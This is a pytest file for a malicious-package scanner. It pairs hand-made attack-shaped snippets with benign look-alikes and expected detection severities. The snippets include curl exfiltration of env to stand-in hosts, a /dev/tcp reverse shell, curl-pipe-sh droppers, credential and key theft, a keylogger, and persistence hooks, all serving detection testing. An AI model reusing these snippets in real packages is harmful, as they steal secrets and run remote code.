"""check_code on code written in the shapes real malicious uploads take (helpers, droppers, shell
tricks, stealers), each next to the benign code it resembles. Re-created by hand: no name,
address or string of a real sample."""

from __future__ import annotations

import zlib

import pytest

from analysis.model import Severity
from tests.analysis.code.members import (
    PAYLOAD,
    C,
    H,
    L,
    M,
    laid_out,
    scan,
    setup_py,
    worst,
)

B64_CURL_ENV = (
    "Y3VybCAtZCAiJChlbnYpIiBodHRwczovL3guZXhhbXBsZS9j"  # curl -d "$(env)" https://x.example/c
)
ZIPPED = zlib.compress(b"echo hello from a compressed command")
INSTALL_CLASS = (
    "from setuptools import setup\nfrom setuptools.command.install import install\n"
    "class Hook(install):\n    def run(self):\n        install.run(self)\n        {body}\n"
    "setup(name='demo', cmdclass={{'install': Hook}})\n"
)

CASES = [
    # ---- helpers between decode, send, spawn and the call that uses them
    (
        setup_py(
            f"import base64\ndef unpack(s):\n    return base64.b64decode(s)\n"
            f"exec(unpack('{PAYLOAD}'))\n"
        ),
        "code.decode-exec",
        C,
        "a decoding helper's result executed at install",
    ),
    (
        setup_py(
            f"import base64, os\nb64d = lambda s: base64.b64decode(s).decode()\n"
            f"os.system(b64d('{B64_CURL_ENV}'))\n"
        ),
        "code.exfiltration",
        C,
        "a lambda decodes a command that posts the environment",
    ),
    (
        setup_py(
            "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
            "run('powershell -c \"iwr https://x.example/a.exe -OutFile a.exe; Start-Process a.exe\"')\n"
        ),
        "code.download-exec",
        C,
        "a run(cmd) helper given a download-and-start powershell line",
    ),
    (
        setup_py(
            "import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd)\nrun(['make', 'all'])\n"
        ),
        "code.process-spawn",
        L,
        "benign: the same helper running make (its own unknown command is low)",
    ),
    (
        setup_py(
            "import socket\ndef ping(data):\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
            "        s.sendto(data, ('ns.x.example', 53))\n"
            "def beacon():\n    ping(socket.gethostname().encode())\nbeacon()\n"
        ),
        "code.exfiltration",
        C,
        "the host name sent through a DNS helper bound to a socket",
    ),
    (
        {
            "demo/__init__.py": INSTALL_CLASS.format(
                body="self._post(dict(__import__('os').environ))"
            ).replace("setup(", "import requests\ndef _unused():\n    pass\nsetup(")
        },
        "code.exfiltration",
        None,
        "no such method: nothing is sent",
    ),
    (
        setup_py(
            INSTALL_CLASS.format(body="self.report(dict(os.environ))").replace(
                "class Hook(install):",
                "import os, requests\nclass Hook(install):\n    def report(self, data):\n"
                "        requests.post('https://x.example/c', json=data)\n",
            )
        ),
        "code.exfiltration",
        C,
        "self.report(environment) from an install hook",
    ),
    (
        setup_py(
            "import base64\ndef decode(s):\n    return base64.b64decode(s)\n"
            "open('logo.png', 'wb').write(decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'))\n"
        ),
        "code.decode-exec",
        None,
        "benign: a decoded icon written out, nothing started",
    ),
    # ---- droppers: a payload written to a file and started
    (
        setup_py(
            f"import base64, os, subprocess, sys\np = os.path.join(os.getenv('TEMP', '/tmp'), 'svc.pyw')\n"
            f"with open(p, 'w') as f:\n    f.write(base64.b64decode('{PAYLOAD}').decode())\n"
            f"subprocess.Popen([sys.executable, p])\n"
        ),
        "code.decode-exec",
        C,
        "a decoded script dropped in TEMP and started at install",
    ),
    (
        {
            "demo/tools.py": "import os, requests\ndef update():\n    r = requests.get('https://x.example/u.exe')\n"
            "    open('u.exe', 'wb').write(r.content)\n    os.system('start u.exe')\n"
        },
        "code.download-exec",
        H,
        "a download written to u.exe and started from a function",
    ),
    (
        {
            "demo/tools.py": "import subprocess, requests\ndef fetch(url):\n    r = requests.get(url)\n"
            "    open('data.tar.gz', 'wb').write(r.content)\n"
            "    subprocess.run(['tar', 'xf', 'data.tar.gz'])\n"
        },
        "code.download-exec",
        L,
        "a download unpacked with tar, not started: the old low pairing",
    ),
    (
        {
            "demo/__init__.py": "import requests, subprocess\n"
            "def save(url, path):\n    r = requests.get(url)\n"
            "    with open(path, 'wb') as f:\n        f.write(r.content)\n"
            "def start(path):\n    subprocess.Popen(path)\n"
            "def main():\n    exe = 'helper.exe'\n    save('https://x.example/h', exe)\n    start(exe)\n"
            "main()\n"
        },
        "code.download-exec",
        C,
        "save(url, path) and start(path) helpers called on import",
    ),
    (
        {
            "demo/__init__.py": "import os, urllib.request as u\n"
            "u.urlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n"
        },
        "code.download-exec",
        C,
        "urlretrieve into a file that is then started, on import",
    ),
    (
        {
            "demo/__init__.py": "import os, tempfile\n"
            "t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n"
            "t.write(b\"from urllib.request import urlopen; exec(urlopen('https://x.example/s').read())\")\n"
            "t.close()\nos.system(f'start pythonw {t.name}')\n"
        },
        "code.download-exec",
        C,
        "a shipped fetch-and-exec script written to a temp file and started",
    ),
    (
        {
            "demo/build.py": "import subprocess, sys\nSETUP = 'from setuptools import setup\\nsetup()\\n'\n"
            "def build(script):\n    with open(script, 'w') as f:\n        f.write(SETUP)\n"
            "    subprocess.run([sys.executable, script, 'build_ext'])\n"
        },
        "code.decode-exec",
        L,
        "a tool writing a setup script and running it when called: low",
    ),
    # ---- commands
    (
        setup_py("import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")\n"),
        "code.process-spawn",
        C,
        "a /dev/tcp reverse shell inside bash -c",
    ),
    (
        setup_py("import os\nos.system('echo %s | base64 -d | bash' % BLOB)\n"),
        "code.decode-exec",
        C,
        "a blob decoded by base64 -d and piped into bash",
    ),
    (
        setup_py("import os\nos.system('curl -s https://x.example/c -d \"$(env)\"')\n"),
        "code.exfiltration",
        C,
        "curl posting the output of env",
    ),
    (
        setup_py("import subprocess\nsubprocess.run(['wscript', 'helper.vbs'])\n"),
        "code.process-spawn",
        H,
        "a Windows script host started at install",
    ),
    (
        setup_py("import subprocess\nsubprocess.run('sh -c \"whoami\"', shell=True)\n"),
        "code.process-spawn",
        H,
        "reconnaissance inside a shell wrapper",
    ),
    (
        setup_py("import os\nos.system(bytes.fromhex(CMD).decode())\n"),
        "code.decode-exec",
        C,
        "a command decoded from hex at install is hidden",
    ),
    (
        {"demo/cli.py": "import os\ndef clear():\n    os.system('cls')\n"},
        "code.process-spawn",
        None,
        "benign: clearing the screen",
    ),
    # ---- what stealers read and where they send it
    (
        {
            "demo/cloud.py": "import requests\ndef token():\n"
            "    r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"
            "    requests.post('https://x.example/t', data=r.text)\n"
        },
        "code.exfiltration",
        H,
        "the instance's credentials fetched and posted elsewhere",
    ),
    (
        {
            "demo/cloud.py": "import urllib.request\ndef token():\n"
            "    url = 'http://169.254.169.254/metadata/identity/oauth2/token'\n"
            "    req = urllib.request.Request(url, headers={'Metadata': 'true'})\n"
            "    return urllib.request.urlopen(req).read()\n"
        },
        "code.exfiltration",
        None,
        "benign: an SDK asking the metadata service for its token",
    ),
    (
        {
            "demo/b.py": "import sqlite3, requests\ndef go(db):\n"
            "    rows = sqlite3.connect(db).execute('SELECT origin_url, password_value FROM logins').fetchall()\n"
            "    requests.post('https://x.example/p', json=rows)\n"
        },
        "code.exfiltration",
        H,
        "saved browser passwords read with SQL and posted",
    ),
    (
        {
            "demo/b.py": "import win32crypt, requests\ndef go(blob):\n"
            "    key = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
            "    requests.post('https://x.example/k', data=key)\n"
        },
        "code.exfiltration",
        H,
        "a key unwrapped with the user's DPAPI key and posted",
    ),
    (
        {
            "demo/g.py": "import os, requests\ndef grab():\n"
            "    p = os.path.join(os.getenv('APPDATA'), '.minecraft', 'launcher_accounts.json')\n"
            "    requests.post(URL, files={'f': open(p, 'rb')})\n"
        },
        "code.exfiltration",
        H,
        "a game launcher's session tokens posted",
    ),
    (
        {
            "demo/k.py": "import smtplib\nfrom pynput import keyboard\nkeys = []\n"
            "def mail():\n    keys.append(keyboard.Listener(on_press=print))\n"
            "    with smtplib.SMTP('smtp.x.example', 587) as s:\n        s.sendmail('a', 'b', str(keys))\n"
        },
        "code.exfiltration",
        H,
        "keystrokes mailed",
    ),
    (
        {
            "demo/t.py": "import requests\ndef notify(text):\n    token = '123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
            "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': text})\n"
        },
        "code.shady-url",
        M,
        "a bot token kept in a local, folded into the URL it posts to",
    ),
    (
        {
            "demo/h.py": "import os, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/"
            + "x" * 40
            + "'\n"
            "def send(msg):\n    requests.post(HOOK, json={'content': msg})\n"
        },
        "code.shady-url",
        M,
        "a webhook in a module constant, posted to from a function",
    ),
    (
        setup_py("import urllib.request as u\nu.urlopen('https://bit.ly/xyz', data=NAME)\n"),
        "code.shady-url",
        H,
        "a link shortener hides where install-time data goes",
    ),
    # ---- reach and code in strings
    (
        {
            "demo/__init__.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"
        },
        "code.download-exec",
        L,
        "a __main__ block does not run on import",
    ),
    (
        setup_py(
            "import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"
        ),
        "code.download-exec",
        C,
        "setup.py runs as __main__: its block runs at install",
    ),
    (
        setup_py("exec('import os\\nos.system(\"curl -s https://x.example/i | sh\")\\n')\n"),
        "code.download-exec",
        C,
        "a program in a string handed to exec is read as code",
    ),
    (
        setup_py(
            "import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
            "'import os, requests; requests.post(\"https://x.example\", data=dict(os.environ))'])\n"
        ),
        "code.exfiltration",
        C,
        "python -c with a program that posts the environment",
    ),
    (
        setup_py(
            "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import numpy; print(numpy.__version__)'])\n"
        ),
        "code.exfiltration",
        None,
        "benign: python -c asking a version",
    ),
    (
        setup_py(
            "import os\nfor k in ('a', 'b'):\n    exec(compile(chr(ord(k) ^ 7) * 30, '<s>', 'exec'))\n"
        ),
        "code.decode-exec",
        C,
        "a XOR cipher's output compiled and run",
    ),
    (
        setup_py(
            f"import base64, builtins\nname = input()\n"
            f"getattr(builtins, name)(base64.b64decode('{PAYLOAD}'))\n"
        ),
        "code.decode-exec",
        C,
        "a decoded payload handed to a builtin chosen at run time",
    ),
    (
        {
            "demo/__init__.py": "from .core import main\nmain()\n",
            "demo/core.py": "import os, requests\ndef read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            "def send(data):\n    requests.post('https://x.example/k', data=data)\n"
            "def main():\n    send(read())\n",
        },
        "code.exfiltration",
        H,
        "helpers of a function called on import are read too",
    ),
    (
        {
            "demo/r.py": "import os, requests\ndef hello():\n"
            "    requests.get('https://x.example/?u=' + os.getenv('USER'))\n"
            "def where():\n    return 'https://ipinfo.io/json'\n"
        },
        "code.exfiltration",
        L,
        "a user name in a request from a function: low",
    ),
    (
        {
            "demo/r.py": "import os, requests\ndef sync():\n    key = os.path.expanduser('~/.ssh/id_rsa')\n"
            "    requests.get('https://x.example/status')\n"
        },
        "code.exfiltration",
        L,
        "a key file named next to an unrelated request: low",
    ),
    (
        {
            "demo/s.py": "import pyautogui, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/"
            + "y" * 40
            + "'\n"
            "def snap():\n    shot = pyautogui.screenshot()\n    requests.post(HOOK, files={'f': shot})\n"
        },
        "code.exfiltration",
        H,
        "a screenshot posted to a webhook",
    ),
    (
        setup_py(
            "import socket, requests\nhost, port = socket.gethostname(), 80\n"
            "requests.get(f'https://x.example/{host}')\n"
        ),
        "code.exfiltration",
        C,
        "a host name unpacked from a tuple and sent at install",
    ),
    (
        setup_py(f"import base64, os\nwrite(base64.b64decode('{PAYLOAD}'))\nos.system('run')\n"),
        "code.decode-exec",
        None,
        "a bare write() call names no file to start",
    ),
    (
        setup_py(
            "import subprocess\ndef run(cmd='make'):\n    subprocess.check_call(cmd)\n"
            "def log(f):\n    f.write(end='')\nrun()\n"
        ),
        "code.process-spawn",
        L,
        "a helper called without the argument that reaches its spawn",
    ),
    (
        setup_py("import requests\nrequests.get(f'https://x.example/ping')\n"),
        "code.shady-url",
        None,
        "an f-string without placeholders is just a literal",
    ),
    (
        {
            "demo/bib.py": "import subprocess, requests\ndef convert(info, out):\n"
            "    subprocess.run(['pandoc', info, '-o', out])\n"
            "def main(doi):\n    info = requests.get('https://x.example/' + doi).text\n"
            "    convert(info, 'x.md')\n"
        },
        "code.process-spawn",
        None,
        "FP regression: fetched text handed to pandoc by a helper is an argument",
    ),
    (
        setup_py(
            "import subprocess, sys, base64\ndef run(script):\n"
            "    subprocess.Popen([sys.executable, script], creationflags=8)\n"
            f"open('s.py', 'w').write(base64.b64decode('{PAYLOAD}').decode())\nrun('s.py')\n"
        ),
        "code.decode-exec",
        C,
        "a helper starting [python, script] runs the script it is given",
    ),
    (
        {
            "demo/view.py": "import base64, subprocess\ndef show(blob, path):\n"
            "    html = base64.b64decode(blob)\n    subprocess.call(['xdg-open', path + html.decode()])\n"
        },
        "code.decode-exec",
        None,
        "FP regression: decoded data from elsewhere in a command when called",
    ),
    (
        setup_py(
            "import os, subprocess\ndef run(cmd):\n    subprocess.run(args=cmd, shell=True)\n"
            "def clear(cmd):\n    os.system()\nclear('cls')\n"
            "run('curl -s https://x.example/i | sh')\n"
        ),
        "code.download-exec",
        C,
        "a helper passing its command as args=",
    ),
    (
        setup_py(
            "import os, subprocess, base64\nd = os.getenv('TEMP')\n"
            f"open(os.path.join(d, 'a.exe'), 'wb').write(base64.b64decode('{PAYLOAD}'))\n"
            "subprocess.Popen([os.path.join(d, 'a.exe')])\nsubprocess.Popen()\n"
        ),
        "code.decode-exec",
        C,
        "the dropped program named by os.path.join pieces",
    ),
    (
        {
            "demo/__init__.py": "import base64\nBLOB = '" + "QUJD" * 60 + "'\n"
            "exec(base64.b64decode(globals()['BL' + 'OB']))\n"
        },
        "code.decode-exec",
        C,
        "a module-level blob decoded through a name the code builds",
    ),
    (
        {
            "demo/media.py": "import subprocess, requests\ndef frame(url, out):\n"
            "    cmd = ['ffmpeg', '-i', url, out]\n    subprocess.run(cmd)\n"
            "def grab(api):\n    url = requests.get(api).json()['play']\n    frame(url, 'f.jpg')\n"
        },
        "code.process-spawn",
        None,
        "FP regression: a fetched URL in an argument list built in a variable",
    ),
    (
        {
            "demo/hx.py": "import os\ndef go():\n    os.system(bytes.fromhex('6563686f2068656c6c6f').decode())\n"
        },
        "code.decode-exec",
        H,
        "a command hidden in a hex literal the package ships, when called",
    ),
    (
        {
            "demo/hx.py": f"import os, zlib\ndef go():\n    os.system(zlib.decompress({ZIPPED!r}).decode())\n"
        },
        "code.decode-exec",
        H,
        "a command hidden in a compressed literal, when called",
    ),
    (
        {
            "demo/__init__.py": "import os, subprocess, tempfile, threading, urllib.request\n"
            "def _update():\n    path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
            "    urllib.request.urlretrieve(URL, path)\n"
            "    subprocess.Popen(f'powershell -WindowStyle Hidden -Command Start-Process \"{path}\"', shell=True)\n"
            "threading.Timer(10, _update).start()\n"
        },
        "code.download-exec",
        C,
        "a timer started on import runs a download-and-start function",
    ),
    (
        {"demo/web.py": "import threading\ndef serve():\n    pass\nhandlers = dict(index=serve)\n"},
        "code.process-spawn",
        None,
        "a function only stored in a dict at import does not run",
    ),
    (
        {
            "demo/tools.py": "import os, requests\nTARGET = os.path.join(os.getenv('TEMP'), 'svc.bin')\n"
            "def fetch():\n    r = requests.get('https://files.x.example/dl/tool.exe?dl=1')\n"
            "    open(TARGET, 'wb').write(r.content)\n    os.system(TARGET)\n"
        },
        "code.download-exec",
        H,
        "the URL names a Windows program: what is started is one",
    ),
    (
        {
            "demo/tools.py": "import subprocess\nfrom pathlib import Path\ndef schedule(root):\n"
            "    vbs = Path(root) / 'watch.vbs'\n"
            '    vbs.write_text(\'Set sh = CreateObject("WScript.Shell")\\nsh.Run "app sync", 0\\n\')\n'
            "    subprocess.run(['schtasks', '/create', '/tn', 'app', '/tr', str(vbs)])\n"
            "    subprocess.run(['wscript', str(vbs)])\n"
        },
        "code.decode-exec",
        None,
        "FP regression: a scheduler script for a script host, written and run when asked",
    ),
    (
        setup_py(
            INSTALL_CLASS.format(
                body="open(os.getenv('APPDATA') + '\\\\cfg.py', 'w').write(STAGE)\n"
                "        os.system('python ' + os.getenv('APPDATA') + '\\\\cfg.py')"
            ).replace(
                "class Hook",
                "import os\nSTAGE = 'import requests\\nexec(requests.get(U).text)'\nclass Hook",
            )
        ),
        "code.download-exec",
        C,
        "a stage written under APPDATA and run by its file name at install",
    ),
    (
        {
            "demo-1.0/setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'pre_install.py'])\n",
            "demo-1.0/pre_install.py": "import os\nos.system('curl -d \"$(env)\" https://x.example/c')\n",
            "demo-1.0/demo/helpers.py": "import os\nos.system('curl -d \"$(env)\" https://x.example/c')\n",
        },
        "code.exfiltration",
        C,
        "a script setup.py runs by its file name runs at install",
    ),
    (
        {
            "demo-1.0/setup.py": "from setuptools import setup\nfrom pre import report\nreport()\nsetup()\n",
            "demo-1.0/pre.py": "import os, requests\ndef report():\n    requests.post('https://x.example', data=dict(os.environ))\n",
        },
        "code.exfiltration",
        C,
        "every function of a module setup.py imports runs at install",
    ),
    (
        {
            "demo/net.py": "import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n"
            "def where():\n    return 'https://ipinfo.io/json'\n"
        },
        "code.exfiltration",
        None,
        "FP regression: resolving the host's own name sends nothing",
    ),
    (
        setup_py(
            "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.example')\n"
        ),
        "code.exfiltration",
        C,
        "a user name sent out inside a DNS name at install",
    ),
    (
        {
            "demo/ssh.py": "import os, paramiko\ndef run(host):\n    c = paramiko.SSHClient()\n"
            "    c.load_host_keys(os.path.expanduser('~/.ssh/known_hosts'))\n"
            "    c.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n"
            "    return c.exec_command('uptime')\n"
            "def where():\n    return 'https://ipinfo.io/json'\n"
        },
        "code.exfiltration",
        None,
        "FP regression: an SSH client loading its own keys sends none",
    ),
    (
        setup_py(
            "import socket, getpass\nu = getpass.getuser()\nd = u + '.' + socket.gethostname() + '.x.example'\n"
            "socket.gethostbyname(d)\n"
        ),
        "code.exfiltration",
        C,
        "user and host put into a DNS name held in a variable, at install",
    ),
    (
        setup_py(
            "import os, socket, ssl\nctx = ssl.create_default_context()\n"
            "with socket.create_connection(('x.example', 443)) as raw:\n"
            "    with ctx.wrap_socket(raw, server_hostname='x.example') as tls:\n"
            "        tls.send(str(dict(os.environ)).encode())\n"
        ),
        "code.exfiltration",
        C,
        "the environment sent over a TLS-wrapped socket at install",
    ),
    (
        {
            "demo/q.py": "import configparser, os, requests\ndef push(hook):\n"
            "    config = configparser.RawConfigParser()\n"
            "    config.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n"
            "    found = []\n    for section in config.sections():\n"
            "        found.append(config.get(section, 'aws_secret_access_key'))\n"
            "    requests.post(hook, json=found)\n"
        },
        "code.exfiltration",
        H,
        "cloud keys read into a parser object, collected in a list and posted",
    ),
    # ---- benign look-alikes of the new sources and senders
    (
        {
            "demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
            "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
            "        self.session = make_session(proxies=get_proxies(self.url))\n"
        },
        "code.exfiltration",
        None,
        "FP regression: self.x = env does not make every use of self a secret",
    ),
    (
        {
            "demo/p.py": "import os, urllib.request\ndef bypass(host):\n    env = dict(os.environ)\n"
            "    return urllib.request.proxy_bypass(host)\n"
        },
        "code.exfiltration",
        None,
        "FP regression: proxy_bypass asks the proxy settings, sends nothing",
    ),
    (
        {
            "demo/docs.py": "import importlib, requests\ndef load():\n    name = requests.get(u).text\n"
            "    return importlib.import_module(name)\n"
        },
        "code.download-exec",
        None,
        "FP regression: import_module is given a module name, not code",
    ),
    (
        {
            "demo/ops_test.py": "import requests, subprocess\ndef check():\n"
            "    r = requests.get('https://x.example/a.exe')\n    open('a.exe', 'wb').write(r.content)\n"
            "    subprocess.run(['a.exe'])\n"
        },
        "code.download-exec",
        L,
        "a *_test.py module runs only under a test runner: two levels down",
    ),
    (
        {
            "demo/tools.py": "import subprocess\ndef update(url):\n"
            "    subprocess.Popen(f'curl -s {url} | python3 > /dev/null 2>&1 &', shell=True)\n"
        },
        "code.download-exec",
        H,
        "a fetch piped into python, silenced and sent to the background",
    ),
    (
        {
            "demo/tools.py": "import os, stat, requests, subprocess\ndef install_tool(arch):\n"
            "    binary = os.path.expanduser(f'~/.cache/tool-{arch}')\n"
            "    r = requests.get(f'https://github.com/o/tool/releases/latest/download/{arch}')\n"
            "    with open(binary, 'wb') as f:\n        f.write(r.content)\n"
            "    subprocess.run([binary, '--version'])\n"
        },
        "code.download-exec",
        L,
        "a CLI fetching its helper binary and running it when asked: low",
    ),
    (
        {
            "demo/tools.py": "import requests, subprocess\ndef update(path):\n"
            "    r = requests.get('https://x.example/agent')\n"
            "    open(path, 'wb').write(r.content)\n"
            "    subprocess.Popen([path], creationflags=0x08000000)\n"
        },
        "code.download-exec",
        H,
        "the same started with its window hidden",
    ),
    (
        {
            "demo/verify.py": "import base64, subprocess\ndef verify(blob, path):\n"
            "    open(path, 'wb').write(base64.b64decode(blob))\n"
            "    subprocess.run(['verifier', '--proof', path])\n"
        },
        "code.decode-exec",
        None,
        "FP regression: a decoded file handed to a program is not started",
    ),
    (
        {
            "demo/dev.py": "import subprocess\ndef attach(sock, cmd):\n"
            "    subprocess.Popen(['socat', 'UNIX-CONNECT:' + sock, 'EXEC:' + cmd])\n"
        },
        "code.process-spawn",
        None,
        "FP regression: socat EXEC over a unix socket is no reverse shell",
    ),
    (
        {
            "demo/quotes.py": "import requests\ndef quotes(code):\n"
            "    return eval(requests.get('https://x.example/q?c=' + code).text)\n"
        },
        "code.download-exec",
        L,
        "FP regression: an old client parsing a response with eval: low",
    ),
    (
        {
            "demo/plug.py": "import requests\ndef plugin():\n    exec(requests.get('https://x.example/p.py').text)\n"
        },
        "code.download-exec",
        H,
        "exec of a program fetched from an address the package names: high",
    ),
    (
        {"demo/plug.py": "import requests\ndef plugin(url):\n    exec(requests.get(url).text)\n"},
        "code.download-exec",
        L,
        "exec of a program from an address the caller gives: a capability",
    ),
    (
        {
            "demo/c2.py": "import socket, subprocess\ndef serve():\n    s = socket.socket()\n"
            "    s.connect(('localhost', 4444))\n    cmd = s.recv(1024).decode()\n"
            "    subprocess.Popen(cmd, shell=True)\n"
        },
        "code.process-spawn",
        H,
        "commands received on a socket are run: a remote shell",
    ),
    (
        {
            "demo/c2.py": "import requests, subprocess\ndef poll():\n"
            "    cmd = requests.get('https://x.example/task').text\n    subprocess.run(cmd, shell=True)\n"
        },
        "code.process-spawn",
        H,
        "a whole command line fetched over HTTP is run",
    ),
    (
        {
            "demo/repl.py": "import os, requests\ndef lookup():\n    return requests.get('https://icanhazip.com').text\n"
            "def shell(message):\n    if message.startswith('LOAD '):\n"
            "        message = requests.get(message[5:]).text\n    os.system(message)\n"
        },
        "code.process-spawn",
        None,
        "FP regression: a REPL runs a script from the address typed at it",
    ),
    (
        {
            "demo/repl.py": "import requests\ndef shell(message):\n    print(requests.get('https://icanhazip.com').text)\n"
            "    if message.startswith('LOAD '):\n        message = requests.get(message[5:]).text\n"
            "    exec(message)\n"
        },
        "code.download-exec",
        L,
        "FP regression: an IP lookup beside a REPL's load is no payload host",
    ),
    (
        {
            "demo/repo.py": "import requests, subprocess\ndef clone(api):\n"
            "    url = requests.get(api).json()['clone_url']\n"
            "    subprocess.run(f'git clone {url} .', shell=True)\n"
        },
        "code.process-spawn",
        None,
        "FP regression: a fetched URL as an argument of git clone",
    ),
    (
        {
            "demo-1.0/venv/lib/site-packages/pip/x.py": "import os, requests\ndef up():\n"
            "    requests.post('https://x.example', data=open(os.path.expanduser('~/.pypirc')).read())\n",
            "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n",
        },
        "code.exfiltration",
        L,
        "FP regression: a virtualenv committed into the sdist is not shipped code",
    ),
    (
        {
            "demo/report.py": "import os, json, requests\nreport = dict(os.environ)\n"
            "if input('Send the report? (y/n) ') == 'y':\n"
            "    requests.post('https://api.example.org/reports', json.dumps(report))\n"
        },
        "code.exfiltration",
        L,
        "FP regression: a report tool asks the person before sending",
    ),
    (
        {
            "demo/report.py": "import os, json, requests, click\nreport = dict(os.environ)\n"
            "if click.confirm('Send?'):\n"
            "    requests.post('https://webhook.site/x', json.dumps(report))\n"
        },
        "code.exfiltration",
        H,
        "asking does not excuse a receiver made for stolen data",
    ),
    (
        {
            "demo/report.py": "import os, json, requests\nreport = dict(os.environ)\n"
            "requests.post('https://api.example.org/reports', json.dumps(report))\n"
        },
        "code.exfiltration",
        H,
        "the environment posted without asking, when called",
    ),
    # ---- the first half of a dropper, and persistence
    (
        {
            "demo/__init__.py": "import requests\nfile = requests.get('https://x.example/a/b?x=1')\n"
            "with open('demo.exe', 'wb') as f:\n    f.write(file.content)\n"
        },
        "code.download-exec",
        H,
        "a download saved as a Windows program on import",
    ),
    (
        {
            "demo/__init__.py": "import requests\nfile = requests.get('https://x.example/a/b.json')\n"
            "with open('cache.json', 'wb') as f:\n    f.write(file.content)\n"
        },
        "code.download-exec",
        None,
        "benign: a download cached as data on import",
    ),
    (
        {
            "demo/__init__.py": "import requests\nexe = 'demo.exe'\nfile = requests.get('https://x.example/b')\n"
            "with open('notes.txt', 'w') as f:\n    f.write('x')\n"
        },
        "code.download-exec",
        None,
        "benign: a literal write next to a download",
    ),
    (
        setup_py(
            "import os\nfrom setuptools import setup\nrc = os.path.expanduser('~/.bashrc')\n"
            "with open(rc, 'a') as f:\n    f.write('alias ls=\"python ~/.x.py\"')\nsetup()\n"
        ),
        "code.persistence",
        H,
        "an alias appended to the shell's start-up file at install",
    ),
    (
        setup_py(
            "import winreg\nfrom setuptools import setup\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
            "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\nsetup()\n"
        ),
        "code.persistence",
        H,
        "a Run key set at install",
    ),
    (
        setup_py(
            "import os\nfrom setuptools import setup\nrc = os.path.expanduser('~/.bashrc')\n"
            "print(open(rc).read())\nsetup()\n"
        ),
        "code.persistence",
        None,
        "benign: reading the start-up file writes nothing",
    ),
    (
        {
            "demo/cli.py": "import os\ndef completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
            "        f.write('eval \"$(demo completion)\"')\n"
        },
        "code.persistence",
        None,
        "benign: a CLI installing shell completion when asked",
    ),
    (
        {
            "demo/__init__.py": "from .installer import install\ninstall()\n",
            "demo/installer.py": "import os\ndef install():\n    os.system('curl -s https://x.example/i | sh')\n",
        },
        "code.download-exec",
        H,
        "a function another module imports and calls at import runs on import",
    ),
    (
        {
            "demo/__init__.py": "from .installer import install\n",
            "demo/installer.py": "import os\ndef install():\n    os.system('curl -s https://x.example/i | sh')\n",
        },
        "code.download-exec",
        L,
        "imported but not called: it runs when called (tools fetch installers)",
    ),
    (
        {
            "demo-1.0/scripts/release.py": "import os, urllib.request\ndef publish():\n"
            "    urllib.request.urlopen(urllib.request.Request('https://x.example/api', data=str(dict(os.environ)).encode()))\n",
            "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n",
        },
        "code.exfiltration",
        L,
        "FP regression: a maintainer's release script beside the package",
    ),
    (
        {
            "demo-1.0/demo/scripts/release.py": "import os, urllib.request\ndef publish():\n"
            "    urllib.request.urlopen(urllib.request.Request('https://x.example/api', data=str(dict(os.environ)).encode()))\n",
            "demo-1.0/setup.py": "from setuptools import setup\nsetup()\n",
        },
        "code.exfiltration",
        H,
        "a scripts folder inside the package is shipped",
    ),
    # ---- version helpers in setup.py's reach (versioneer-style), mypyc-style wrappers
    (
        {
            "demo-1.0/setup.py": "import versioner\nfrom setuptools import setup\nsetup(version=versioner.v())\n",
            "demo-1.0/versioner.py": (
                "import subprocess, sys\ndef run(commands, args):\n    for c in commands:\n"
                "        p = subprocess.Popen([c] + args)\n"
                "def vcs_install(manifest):\n    GITS = ['git']\n"
                "    if sys.platform == 'win32':\n        GITS = ['git.cmd', 'git.exe']\n"
                "    run(GITS, ['add', '--', manifest])\n"
                "def v():\n    with open('MANIFEST.in', 'a') as f:\n        f.write('include x.py')\n"
                "    vcs_install('MANIFEST.in')\n"
            ),
        },
        "code.decode-exec",
        None,
        "FP regression: a file written, then named to git add, is not run",
    ),
    (
        {
            "demo-1.0/setup.py": (
                "from setuptools import setup\nimport subprocess\n"
                "SKIP = ['pkg/__main__.py',\n        'pkg/build.py']\n"
                "VERSION = '1.0'\nNAME = 'demo'\nsubprocess.check_call(['make'])\nsetup()\n"
            ),
            "demo-1.0/pkg/__main__.py": "import os\nos.system('curl -s https://x.example/i | sh')\n",
        },
        "code.download-exec",
        L,
        "FP regression: a list of files setup.py skips does not run them",
    ),
    (
        {
            "demo-1.0/setup.py": (
                "from setuptools import setup\nimport subprocess\n"
                "stage = 'pkg/stage.py'\n\nsubprocess.check_call(['python', stage])\nsetup()\n"
            ),
            "demo-1.0/pkg/stage.py": "import os\nos.system('curl -s https://x.example/i | sh')\n",
        },
        "code.download-exec",
        C,
